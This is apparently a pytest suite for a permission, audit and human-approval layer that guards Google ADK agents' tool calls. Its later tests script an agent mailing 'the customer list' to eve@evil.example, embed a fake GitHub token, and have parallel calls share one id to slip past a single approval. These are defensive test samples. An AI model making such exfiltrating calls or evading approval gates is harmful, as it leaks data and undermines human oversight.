"""toolpass-google-adk through ADK's real loop: what ADK does on its own (a tool's exception
and a raising callback end the run), every path of the callbacks failing closed, a tool's
exception read by the model, one audit event per call, sub-agents and agent-tools under
``apply`` and the plugin, composition with an app's own callbacks, plugins and ADK's
confirmation gate, and approvals through ADK's tool confirmation."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from adk_script import (
    agent_with,
    arun,
    final,
    read_back,
    responses,
    run,
    runner_for,
    scripted,
)
from google.adk.agents import LlmAgent
from google.adk.plugins.base_plugin import BasePlugin
from google.adk.runners import Runner
from google.adk.tools.agent_tool import AgentTool
from google.adk.tools.function_tool import FunctionTool
from google.genai import types
from pytest_toolpass import KitTools, ScriptedEngine
from toolpass import ApprovalQueue, AuditEvent, Decision, Toolkit, ToolRefused
from toolpass.adapting import Traits
from toolpass.google_adk import Rule, ToolpassCallbacks

DANA, ERIN = "dana@example.com", "erin@example.com"
DELETE = Rule("jira", "DELETE_ISSUES", "issue:{key}")
MAY_DELETE = {(DANA, "DELETE_ISSUES", "issue:PAY-1"): Decision.allow()}
HOW = ["apply", "plugin"]
#: AgentTool runs its agent with the parent's plugins through ADK's own deprecated
#: ``Runner(plugins=...)`` (google-adk 2.13): ADK warns about itself.
ADK_WARNS_ITSELF = pytest.mark.filterwarnings(
    "ignore:The `plugins` argument is deprecated:DeprecationWarning"
)


def guarded(how: str, agent: LlmAgent, callbacks: ToolpassCallbacks, *plugins: Any) -> Any:
    if how == "apply":
        return runner_for(callbacks.apply(agent), list(plugins))
    return runner_for(agent, [*plugins, callbacks.plugin()])


def boom(x: str) -> str:
    """Fails."""
    raise ValueError(f"cannot do {x}")


# What ADK does without toolpass (google-adk 2.13), which the adapter relies on.


def test_without_toolpass_a_tools_exception_ends_the_run() -> None:
    with pytest.raises(ValueError, match="cannot do 1"):
        run(runner_for(agent_with([boom], [("boom", {"x": "1"})])), DANA)


def test_without_toolpass_a_raising_before_tool_callback_ends_the_run_and_nothing_runs() -> None:
    def broken(tool: Any, args: Any, tool_context: Any) -> None:
        raise RuntimeError("broken callback")

    tools = KitTools()
    agent = agent_with(tools.functions(), [("whoami", {})], before_tool_callback=broken)
    with pytest.raises(RuntimeError, match="broken callback"):
        run(runner_for(agent), DANA)
    assert tools.ran == []


# A tool's exception.


@pytest.mark.parametrize("how", HOW)
def test_a_tools_exception_is_read_by_the_model_and_the_run_goes_on(how: str) -> None:
    events: list[AuditEvent] = []
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=Toolkit(audit=events.append))
    tools = KitTools()
    agent = agent_with([boom, *tools.functions()], [("boom", {"x": "1"}), ("whoami", {})])
    out, _ = run(guarded(how, agent, callbacks), DANA)
    assert responses(out)[0] == {"error": "ValueError: cannot do 1"}
    assert f"acting for {DANA}" in read_back(out)[1]
    assert final(out) == "done"
    assert [(e.tool, e.outcome) for e in events] == [("boom", "error"), ("whoami", "ok")]


def test_an_apps_own_error_callback_has_the_first_say() -> None:
    def mine(tool: Any, args: Any, tool_context: Any, error: Exception) -> dict[str, Any]:
        return {"error": "the app's own words"}

    agent = agent_with([boom], [("boom", {"x": "1"})], on_tool_error_callback=mine)
    out, _ = run(runner_for(ToolpassCallbacks(ScriptedEngine()).apply(agent)), DANA)
    assert responses(out)[0] == {"error": "the app's own words"}


# Failing closed.


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize(
    "options",
    [
        {"user": lambda ctx: 1 / 0},
        {"user": lambda ctx: 42},
        {"session": lambda ctx: 1 / 0},
        {"session": lambda ctx: {"not": "an id"}},
    ],
)
def test_a_failing_user_or_session_source_refuses_and_is_audited(
    how: str, options: dict[str, Any]
) -> None:
    events: list[AuditEvent] = []
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=Toolkit(audit=events.append), **options)
    tools = KitTools()
    out, _ = run(guarded(how, agent_with(tools.functions(), [("whoami", {})]), callbacks), DANA)
    assert tools.ran == []
    [text] = read_back(out)
    assert text.startswith("Refused by toolpass (check_error)")
    assert "ZeroDivisionError" not in text
    assert [(e.tool, e.outcome, e.code) for e in events] == [("whoami", "refused", "check_error")]
    assert final(out) == "done"


@pytest.mark.parametrize("how", HOW)
def test_on_refuse_none_ends_the_run_with_the_refusal(how: str) -> None:
    tools = KitTools()
    agent = agent_with(tools.functions(), [("delete_issue", {"key": "PAY-1"})])
    callbacks = ToolpassCallbacks(ScriptedEngine(), {"delete_issue": DELETE}, on_refuse=None)
    with pytest.raises(ToolRefused) as refused:
        run(guarded(how, agent, callbacks), ERIN)
    assert refused.value.code == "not_authorized"
    assert tools.ran == []


@pytest.mark.parametrize(
    ("on_refuse", "expected"),
    [
        (lambda refused: 1 / 0, {"error": "Refused by toolpass (not_authorized): "}),
        (lambda refused: None, {"error": "Refused by toolpass (not_authorized): "}),
        (lambda refused: {"denied": refused.code}, {"denied": "not_authorized"}),
        (lambda refused: f"no: {refused.code}", {"result": "no: not_authorized"}),
    ],
)
def test_on_refuse_gives_the_result_and_a_failing_one_still_refuses(
    on_refuse: Any, expected: dict[str, str]
) -> None:
    tools = KitTools()
    agent = agent_with(tools.functions(), [("delete_issue", {"key": "PAY-1"})])
    callbacks = ToolpassCallbacks(ScriptedEngine(), {"delete_issue": DELETE}, on_refuse=on_refuse)
    out, _ = run(runner_for(callbacks.apply(agent)), ERIN)
    [got] = responses(out)
    assert tools.ran == []
    for key, value in expected.items():
        assert str(got[key]).startswith(value), got


@pytest.mark.parametrize("how", HOW)
def test_a_tool_that_is_not_wrapped_is_checked_by_the_before_tool_callback(how: str) -> None:
    """A tool put on the agent after it was guarded still runs through the pipeline."""
    events: list[AuditEvent] = []
    callbacks = ToolpassCallbacks(
        ScriptedEngine(), {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    tools = KitTools()
    late = [FunctionTool(f) for f in tools.functions()]

    def swap(callback_context: Any) -> None:  # after the plugin's own before_agent_callback
        # The agent that runs (ADK may run a copy of the one it was given).
        callback_context._invocation_context.agent.tools = list(late)

    calls = [("delete_issue", {"key": "PAY-1"}), ("whoami", {})]
    agent = agent_with(KitTools().functions(), calls, before_agent_callback=swap)
    out, _ = run(guarded(how, agent, callbacks), ERIN)
    assert tools.names() == ["whoami"]
    texts = read_back(out)
    assert texts[0].startswith("Refused by toolpass (not_authorized)")
    assert f"acting for {ERIN}" in texts[1]
    assert [e.tool for e in events] == ["delete_issue", "whoami"]


def test_a_tool_the_model_made_up_is_answered_by_adk_and_nothing_runs() -> None:
    tools = KitTools()
    callbacks = ToolpassCallbacks(ScriptedEngine(), strict=True)
    agent = agent_with(tools.functions(), [("drop_database", {})])
    out, _ = run(runner_for(callbacks.apply(agent)), DANA)
    assert tools.ran == []
    assert "drop_database" in str(responses(out)[0])


# Sessions and users.


@pytest.mark.parametrize("how", HOW)
def test_one_session_per_adk_session_and_user(how: str) -> None:
    kit = Toolkit(limits={"tool:delete_issue": 1}, audit=[])
    engine = ScriptedEngine(
        {(DANA, "DELETE_ISSUES", f"issue:PAY-{n}"): Decision.allow() for n in (1, 2)}
    )
    agent = agent_with(KitTools().functions(), [("delete_issue", {"key": "PAY-1"})])
    runner = guarded(how, agent, ToolpassCallbacks(engine, {"delete_issue": DELETE}, toolkit=kit))
    first, session = run(runner, DANA)
    assert read_back(first) == ["deleted PAY-1"]
    agent.model = scripted([("delete_issue", {"key": "PAY-2"})])
    again, _ = run(runner, DANA, session)  # the same ADK session: its limit is spent
    assert "limit_exceeded" in read_back(again)[0]
    agent.model = scripted([("delete_issue", {"key": "PAY-2"})])
    fresh, _ = run(runner, DANA)  # a new ADK session
    assert read_back(fresh) == ["deleted PAY-2"]


def test_session_run_is_one_invocation() -> None:
    kit = Toolkit(limits={"tool:whoami": 1}, audit=[])
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=kit, session="run")
    agent = agent_with(KitTools().functions(), [("whoami", {}), ("whoami", {})])
    runner = runner_for(callbacks.apply(agent))
    out, session = run(runner, DANA)
    assert "limit_exceeded" in read_back(out)[1]
    agent.model = scripted([("whoami", {})])
    again, _ = run(runner, DANA, session)  # the same ADK session, a new invocation
    assert f"acting for {DANA}" in read_back(again)[0]


@pytest.mark.parametrize("how", HOW)
def test_the_user_can_come_from_session_state_or_a_callable(how: str) -> None:
    tools = KitTools()
    by_state = ToolpassCallbacks(ScriptedEngine(), user="acting_for")
    agent = agent_with(tools.functions(), [("whoami", {})])
    out, _ = run(guarded(how, agent, by_state), "web-123", state={"acting_for": ERIN})
    assert f"acting for {ERIN}" in read_back(out)[0]
    by_callable = ToolpassCallbacks(ScriptedEngine(), user=lambda ctx: ctx.user_id.upper())
    agent = agent_with(tools.functions(), [("whoami", {})])
    out, _ = run(guarded(how, agent, by_callable), "dana")
    assert "acting for DANA" in read_back(out)[0]


@pytest.mark.parametrize("how", HOW)
def test_parallel_calls_in_one_response_are_each_checked(how: str) -> None:
    tools = KitTools()
    engine = ScriptedEngine(MAY_DELETE)
    calls = [("delete_issue", {"key": "PAY-1"}), ("delete_issue", {"key": "PAY-2"}), ("whoami", {})]
    agent = LlmAgent(name="ops", model=scripted(calls, parallel=True), tools=tools.functions())
    out, _ = run(guarded(how, agent, ToolpassCallbacks(engine, {"delete_issue": DELETE})), DANA)
    texts = read_back(out)
    assert texts[0] == "deleted PAY-1"
    assert "not_authorized" in texts[1]
    assert f"acting for {DANA}" in texts[2]
    assert sorted(tools.names()) == ["delete_issue", "whoami"]


# Sub-agents and agent-tools.


@ADK_WARNS_ITSELF
@pytest.mark.parametrize("how", HOW)
def test_sub_agents_and_agent_tools_are_guarded(how: str) -> None:
    events: list[AuditEvent] = []
    engine = ScriptedEngine()
    callbacks = ToolpassCallbacks(
        engine, {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    tools = KitTools()
    helper = LlmAgent(
        name="helper",
        description="deletes issues",
        model=scripted([("delete_issue", {"key": "PAY-3"}), ("whoami", {})]),
        tools=tools.functions(),
    )
    inner = LlmAgent(
        name="inner",
        description="deletes issues too",
        model=scripted([("delete_issue", {"key": "PAY-2"}), ("whoami", {})]),
        tools=tools.functions(),
    )
    root = LlmAgent(
        name="root",
        model=scripted(
            [("inner", {"request": "clean up"}), ("transfer_to_agent", {"agent_name": "helper"})]
        ),
        tools=[AgentTool(inner)],
        sub_agents=[helper],
    )
    _out, _ = run(guarded(how, root, callbacks), ERIN)
    assert tools.names() == ["whoami", "whoami"]  # neither delete ran
    refused = [e for e in events if e.tool == "delete_issue"]
    assert [(e.user, e.code) for e in refused] == [(ERIN, "not_authorized")] * 2
    # The agent-tool's calls ran inside the session of the call that ran it.
    whoami = [e for e in events if e.tool == "whoami"]
    assert len(whoami) == 2
    assert {e.tool for e in events} == {"inner", "delete_issue", "whoami"}
    assert engine.asked == [
        (ERIN, "jira", "DELETE_ISSUES", "issue:PAY-2"),
        (ERIN, "jira", "DELETE_ISSUES", "issue:PAY-3"),
    ]


# Composition with the app's own callbacks, plugins and ADK's confirmation gate.


@pytest.mark.parametrize("how", HOW)
def test_a_call_an_apps_callback_answers_never_reaches_toolpass(how: str) -> None:
    events: list[AuditEvent] = []

    def answer(tool: Any, args: Any, tool_context: Any) -> dict[str, Any] | None:
        return {"result": "answered by the app"} if tool.name == "delete_issue" else None

    tools = KitTools()
    agent = agent_with(
        tools.functions(),
        [("delete_issue", {"key": "PAY-1"}), ("whoami", {})],
        before_tool_callback=answer,
    )
    callbacks = ToolpassCallbacks(
        ScriptedEngine(), {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    out, _ = run(guarded(how, agent, callbacks), ERIN)
    assert read_back(out)[0] == "answered by the app"
    assert [e.tool for e in events] == ["whoami"]


def test_a_plugin_listed_before_toolpass_that_answers_a_call_wins() -> None:
    class Cache(BasePlugin):
        async def before_tool_callback(
            self, *, tool: Any, tool_args: Any, tool_context: Any
        ) -> Any:
            return {"result": "cached"} if tool.name == "read_file" else None

    events: list[AuditEvent] = []
    tools = KitTools()
    agent = agent_with(tools.functions(), [("read_file", {"path": "a"}), ("whoami", {})])
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=Toolkit(audit=events.append))
    out, _ = run(guarded("plugin", agent, callbacks, Cache(name="cache")), DANA)
    assert read_back(out)[0] == "cached"
    assert tools.names() == ["whoami"]
    assert [e.tool for e in events] == ["whoami"]


def confirmation_calls(events: list[Any]) -> list[types.FunctionCall]:
    return [
        c for e in events for c in e.get_function_calls() if c.name == "adk_request_confirmation"
    ]


def confirm(
    runner: Any, user: str, session: str, call: types.FunctionCall, answer: dict[str, Any]
) -> list[Any]:
    reply = types.Content(
        role="user",
        parts=[
            types.Part(
                function_response=types.FunctionResponse(
                    name="adk_request_confirmation", id=call.id, response=answer
                )
            )
        ],
    )
    return run(runner, user, session, reply)[0]


@pytest.mark.parametrize("how", HOW)
def test_adks_confirmation_gate_asks_before_toolpass_checks(how: str) -> None:
    events: list[AuditEvent] = []
    tools = KitTools()
    _read_file, delete_issue, _whoami = tools.functions()
    agent = agent_with(
        [FunctionTool(delete_issue, require_confirmation=True)],
        [("delete_issue", {"key": "PAY-1"})],
    )
    callbacks = ToolpassCallbacks(
        ScriptedEngine(), {"delete_issue": DELETE}, toolkit=Toolkit(audit=events.append)
    )
    runner = guarded(how, agent, callbacks)
    out, session = run(runner, ERIN)
    [ask] = confirmation_calls(out)
    assert events == []  # asked first: toolpass saw nothing yet
    out = confirm(runner, ERIN, session, ask, {"confirmed": True})
    assert "not_authorized" in read_back(out)[-1]  # approved by the person, refused by toolpass
    assert tools.ran == []
    assert [(e.tool, e.code) for e in events] == [("delete_issue", "not_authorized")]


# Approvals through ADK's tool confirmation.


def approving(
    queue: ApprovalQueue, ran: list[int], events: list[AuditEvent], how: str, **runner: Any
) -> Any:
    """A runner whose agent's one tool always needs approval (a ``secured_tool`` of the
    adapter's toolkit, whose approver is ``queue``)."""
    kit = Toolkit(approver=queue, audit=events.append)
    return guarded_wire(kit, ran, how, **runner)


def wire_tool(kit: Toolkit, ran: list[int]) -> Any:
    @kit.secured_tool(approve=True)
    def wire(amount: int) -> str:
        """Wire money."""
        ran.append(amount)
        return f"wired {amount}"

    return wire


def guarded_wire(
    kit: Toolkit, ran: list[int], how: str, wire: Any = None, calls: int = 1, **runner: Any
) -> Any:
    agent = agent_with([wire or wire_tool(kit, ran)], [("wire", {"amount": 500})] * calls)
    made = guarded(how, agent, ToolpassCallbacks(ScriptedEngine(), toolkit=kit))
    if runner:
        made = Runner(app=made.app, **runner)
    return made


@pytest.mark.parametrize("how", HOW)
def test_an_approval_pauses_the_run_and_the_call_runs_once_confirmed(how: str) -> None:
    queue, ran, events = ApprovalQueue(), [], []
    runner = approving(queue, ran, events, how)
    out, session = run(runner, DANA)
    [ask] = confirmation_calls(out)
    payload = ask.args["toolConfirmation"]["payload"]
    assert payload["toolpass"] == "approval"
    assert payload["tool"] == "wire"
    assert payload["user"] == DANA
    assert queue.get(payload["request_id"]).status == "pending"
    assert ran == []
    out = confirm(runner, DANA, session, ask, {"confirmed": True, "payload": {"by": "lee"}})
    assert ran == [500]
    assert read_back(out)[-1] == "wired 500"
    assert final(out) == "done"
    assert [(e.tool, e.outcome) for e in events if e.tool == "wire"][-1] == ("wire", "ok")


@pytest.mark.parametrize("how", HOW)
def test_a_rejected_confirmation_never_runs_the_call(how: str) -> None:
    queue, ran, events = ApprovalQueue(), [], []
    runner = approving(queue, ran, events, how)
    out, session = run(runner, DANA)
    [ask] = confirmation_calls(out)
    out = confirm(
        runner,
        DANA,
        session,
        ask,
        {"confirmed": False, "payload": {"by": "lee", "reason": "over budget"}},
    )
    assert ran == []
    text = read_back(out)[-1]
    assert text.startswith("Refused by toolpass (approval_denied)"), text
    assert "over budget" in text


def test_a_request_decided_in_the_queue_keeps_that_decision() -> None:
    queue, ran, events = ApprovalQueue(), [], []
    runner = approving(queue, ran, events, "apply")
    out, session = run(runner, DANA)
    [ask] = confirmation_calls(out)
    queue.deny(ask.args["toolConfirmation"]["payload"]["request_id"], by="ops", reason="no")
    out = confirm(runner, DANA, session, ask, {"confirmed": True})
    assert ran == []
    assert "approval_denied" in read_back(out)[-1]


# Async, and two users at once through one runner.


def test_two_users_at_once_through_one_guarded_runner() -> None:
    engine = ScriptedEngine(MAY_DELETE)
    callbacks = ToolpassCallbacks(engine, {"delete_issue": DELETE})

    async def both() -> list[list[str]]:
        outs = []
        for user in (DANA, ERIN):
            agent = agent_with(
                KitTools().functions(), [("whoami", {}), ("delete_issue", {"key": "PAY-1"})]
            )
            outs.append(arun(runner_for(callbacks.apply(agent)), user))
        return [read_back(events) for events, _ in await asyncio.gather(*outs)]

    dana, erin = asyncio.run(both())
    assert f"acting for {DANA}" in dana[0]
    assert dana[1] == "deleted PAY-1"
    assert f"acting for {ERIN}" in erin[0]
    assert "not_authorized" in erin[1]


@pytest.mark.parametrize("echo", [True, False])
def test_a_guard_made_anew_for_the_answer_records_it(echo: bool) -> None:
    """An application that builds its agent (and guard) for each request: the answer reaches
    another ``ToolpassCallbacks`` than the one that asked, on the same toolkit."""
    queue, ran = ApprovalQueue(), []
    kit = Toolkit(approver=queue, audit=[])
    wire = wire_tool(kit, ran)  # the application's tool, defined once
    first = guarded_wire(kit, ran, "apply", wire)
    out, session = run(first, DANA)
    [ask] = confirmation_calls(out)
    # Resumed, the model is past its call: the new agent's script makes none.
    second = guarded_wire(kit, ran, "apply", wire, 0, session_service=first.session_service)
    payload = ask.args["toolConfirmation"]["payload"] if echo else None
    out = confirm(second, DANA, session, ask, {"confirmed": True, "payload": payload})
    assert ran == [500]
    assert read_back(out)[-1] == "wired 500"


def test_a_session_callable_naming_none_keeps_one_session_for_the_invocation() -> None:
    kit = Toolkit(limits={"tool:whoami": 1}, audit=[])
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=kit, session=lambda ctx: None)
    agent = agent_with(KitTools().functions(), [("whoami", {}), ("whoami", {})])
    out, _ = run(runner_for(callbacks.apply(agent)), DANA)
    assert "limit_exceeded" in read_back(out)[1]


@pytest.mark.parametrize("how", HOW)
def test_an_unwrapped_tools_exception_is_read_by_the_model(how: str) -> None:
    events: list[AuditEvent] = []
    callbacks = ToolpassCallbacks(ScriptedEngine(), toolkit=Toolkit(audit=events.append))

    def swap(callback_context: Any) -> None:  # after the plugin's own before_agent_callback
        callback_context._invocation_context.agent.tools = [FunctionTool(boom)]

    agent = agent_with([boom], [("boom", {"x": "2"})], before_agent_callback=swap)
    out, _ = run(guarded(how, agent, callbacks), DANA)
    assert responses(out) == [{"error": "ValueError: cannot do 2"}]
    assert [(e.tool, e.outcome) for e in events] == [("boom", "error")]


# Approvals hardened (#18): what the person reads, and one answer for one request.

SEND = Traits(effect="write", sends_out=True, reads_private=True, untrusted_output=True)


def mailing(queue: ApprovalQueue, sent: list[str], calls: list[dict[str, Any]]) -> Any:
    """A runner whose framework tool ``send_mail`` always needs approval, called with each
    of ``calls`` in one model message, every call under the function call id ``t1``."""

    def send_mail(to: str, body: str) -> str:
        """Send a mail."""
        sent.append(to)
        return f"sent to {to}"

    llm = scripted([("send_mail", c) for c in calls], parallel=True)
    agent = LlmAgent(name="mailer", model=llm, tools=[send_mail])
    kit = Toolkit(approver=queue, audit=[])
    callbacks = ToolpassCallbacks(ScriptedEngine(), {"send_mail": SEND}, toolkit=kit)
    return guarded("apply", agent, callbacks), llm


def same_id(llm: Any) -> None:
    original = llm.generate_content_async

    async def generate(request: Any, stream: bool = False) -> Any:
        async for response in original(request, stream):
            for part in (response.content.parts if response.content else None) or []:
                if part.function_call is not None:
                    part.function_call.id = "t1"
            yield response

    object.__setattr__(llm, "generate_content_async", generate)


def test_the_confirmation_hint_shows_the_arguments() -> None:
    queue, sent = ApprovalQueue(), []
    runner, _ = mailing(queue, sent, [{"to": "eve@evil.example", "body": "the customer list"}])
    out, _ = run(runner, DANA)
    [ask] = confirmation_calls(out)
    confirmation = ask.args["toolConfirmation"]
    assert "to = 'eve@evil.example'" in confirmation["hint"]
    assert "the customer list" in confirmation["hint"]
    assert confirmation["payload"]["arguments"]["to"] == "'eve@evil.example'"
    assert sent == []


def test_calls_sharing_a_function_call_id_never_share_an_answer() -> None:
    queue, sent = ApprovalQueue(), []
    calls = [
        {"to": "bills@utility.example", "body": "the invoice"},
        {"to": "eve@evil.example", "body": "the customer list"},
    ]
    runner, llm = mailing(queue, sent, calls)
    same_id(llm)
    out, session = run(runner, DANA)
    assert len(queue.pending()) == 2
    asks = confirmation_calls(out)
    assert asks
    refusals = []
    for ask in asks:
        try:
            confirm(runner, DANA, session, ask, {"confirmed": True, "payload": {"by": "lee"}})
        except ValueError as exc:  # ADK 2.13 refuses itself to resume calls sharing an id
            refusals.append(str(exc))
    assert all("mismatch" in r for r in refusals), refusals
    assert "eve@evil.example" not in sent
    assert "eve@evil.example" in [r.arguments["to"] for r in queue.pending()]


def test_the_confirmation_payload_shows_no_secret() -> None:
    """The payload's arguments are shown as the hint shows them: a credential by its digest."""
    queue, sent = ApprovalQueue(), []
    token = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
    runner, _ = mailing(queue, sent, [{"to": "eve@evil.example", "body": f"use {token}"}])
    out, _ = run(runner, DANA)
    [ask] = confirmation_calls(out)
    confirmation = ask.args["toolConfirmation"]
    assert token not in json.dumps(confirmation)
    assert "not shown" in confirmation["payload"]["arguments"]["body"]
    assert confirmation["payload"]["arguments"]["to"] == "'eve@evil.example'"
    assert sent == []


@pytest.mark.parametrize(
    "payload",
    [
        {"decision": "approve", "by": "lee"},
        {"approved": True},
        {"type": "approve"},
        {"decision": "edit", "arguments": {"amount": 1}},
        "y",
        None,
    ],
    ids=["decision", "approved", "type", "edit", "text", "none"],
)
def test_a_confirmation_not_confirmed_never_runs_the_call_whatever_its_payload(
    payload: Any,
) -> None:
    """``confirmed`` is the person's yes: a payload saying otherwise approves nothing."""
    queue, ran, events = ApprovalQueue(), [], []
    runner = approving(queue, ran, events, "apply")
    out, session = run(runner, DANA)
    [ask] = confirmation_calls(out)
    out = confirm(runner, DANA, session, ask, {"confirmed": False, "payload": payload})
    assert ran == []
    assert "approval_denied" in read_back(out)[-1]
